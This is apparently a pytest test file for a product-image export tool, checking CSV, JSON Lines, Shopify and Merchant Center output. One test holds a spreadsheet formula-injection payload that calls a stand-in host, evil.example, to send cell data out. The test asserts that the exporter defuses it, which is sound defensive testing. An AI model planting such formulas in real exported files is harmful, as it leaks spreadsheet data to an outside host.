"""CSV, JSON Lines, and the files that shops import."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pyarrow as pa
import pytest

from caslie_ray.export._rows import ROWS
from caslie_ray.export._text_format import CSV, JSON_LINES, MERCHANT_CENTER, SHOPIFY, TextFormat

HOSTILE = 'Line one\r\nline two, "quoted"\tand a tab\u2028\u0000é🧦'


def row(**changes: Any) -> dict[str, Any]:
    return {
        "id": "mug", "context": "product", "image": "https://shop.example/1.jpg", "place": 1, "caption": "A mug.",
        "verdict": True, "yes_share": 1.0, "probabilities": [{"voter": "ann", "p_yes": 0.75}], "error": "",
    } | changes  # fmt: skip


def written(form: TextFormat, *rows: dict[str, Any]) -> str:
    data, _ = form.encode(pa.Table.from_pylist(list(rows), schema=ROWS))
    file = io.BytesIO()
    form.write_one(file, io.BytesIO(data.to_pybytes()))
    return file.getvalue().decode()


def read_csv(text: str, **options: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline=""), **options))


def test_csv_keeps_every_text() -> None:
    empty = row(place=None, verdict=None, yes_share=None, probabilities=None, caption="", error=HOSTILE)
    first, second = read_csv(written(CSV, row(caption=HOSTILE), empty), strict=True)
    assert first == {
        "id": "mug", "context": "product", "image": "https://shop.example/1.jpg", "place": "1", "caption": HOSTILE,
        "verdict": "true", "yes_share": "1.0", "probabilities": '{"ann": 0.75}', "error": "",
    }  # fmt: skip
    assert second["error"] == HOSTILE
    assert [second[name] for name in ("place", "verdict", "yes_share", "probabilities")] == [""] * 4


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r", "\n", "＝"])
def test_csv_cells_are_never_formulas(begins: str) -> None:
    attack = f'{begins}HYPERLINK("http://evil.example/?"&A1,"click")'
    texts = ("id", "context", "image", "caption", "error")
    (found,) = read_csv(written(CSV, row(**dict.fromkeys(texts, attack))))
    assert {name: found[name] for name in texts} == dict.fromkeys(texts, f"'{attack}")
    (listed,) = read_csv(written(SHOPIFY, row(id=attack, image=attack, caption=f"x{attack}")))
    assert (listed["Handle"], listed["Image Src"]) == (f"'{attack}", f"'{attack}")
    assert listed["Image Alt Text"] == " ".join(f"x{attack}".split())


def test_json_lines_are_one_object_a_line() -> None:
    text = written(JSON_LINES, row(caption=HOSTILE, id="=1"), row(probabilities=None, place=None))
    first, second = (json.loads(line) for line in text.removesuffix("\n").split("\n"))
    assert list(first) == ROWS.names
    assert (first["caption"], first["id"], first["probabilities"]) == (HOSTILE, "=1", {"ann": 0.75})
    assert (second["probabilities"], second["place"]) == (None, None)


def test_shopify_has_a_row_per_image() -> None:
    text = written(SHOPIFY, row(), row(place=2, caption="A\n mug."))
    assert text == (
        "Handle,Image Src,Image Position,Image Alt Text\r\n"
        "mug,https://shop.example/1.jpg,1,A mug.\r\n"
        "mug,https://shop.example/1.jpg,2,A mug.\r\n"
    )


@pytest.mark.parametrize(
    ("caption", "length"), [("x" * 512, 512), ("x" * 513, 512), ("=" + "word " * 200, 512), ("long words " * 80, 511)]
)
def test_alternative_texts_have_at_most_512_characters(caption: str, length: int) -> None:
    (found,) = read_csv(written(SHOPIFY, row(caption=caption)))
    assert len(found["Image Alt Text"]) == length
    assert found["Image Alt Text"].endswith("…") == (len(caption) > 512)


def test_merchant_center_has_a_row_per_product() -> None:
    rows = [row(caption='A "red"\tmug.'), row(place=2, caption="Its\nhandle."), row(place=3, caption="Its\nhandle.")]
    text = written(MERCHANT_CENTER, *rows, row(id="p\tan", caption="A pan."))
    assert text == (
        "id\tstructured_description\n"
        'mug\ttrained_algorithmic_media:"A ""red"" mug. Its handle."\n'
        'p an\ttrained_algorithmic_media:"A pan."\n'
    )


def test_descriptions_have_at_most_5000_characters() -> None:
    text = written(MERCHANT_CENTER, *(row(place=n, caption=f'{n} "words" ' * 40) for n in range(20)))
    (line,) = text.splitlines()[1:]
    value = line.partition("\t")[2].removeprefix('trained_algorithmic_media:"').removesuffix('"').replace('""', '"')
    assert 4_950 < len(value) <= 5_000
    assert value.endswith("…")


def test_products_are_not_cut_at_the_end_of_a_batch(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("caslie_ray.export._text_format._BATCH", 2)
    _, count = MERCHANT_CENTER.encode(
        pa.Table.from_pylist([row(place=n, caption=f"{n}") for n in range(5)], schema=ROWS)
    )
    assert count == 1


def test_a_file_of_several_parts_has_one_header() -> None:
    file = io.BytesIO()
    parts = [CSV.encode(pa.Table.from_pylist([row(id=name)], schema=ROWS))[0].to_pybytes() for name in "abc"]
    CSV.write_all(file, map(io.BytesIO, parts))
    assert [found["id"] for found in read_csv(file.getvalue().decode())] == ["a", "b", "c"]
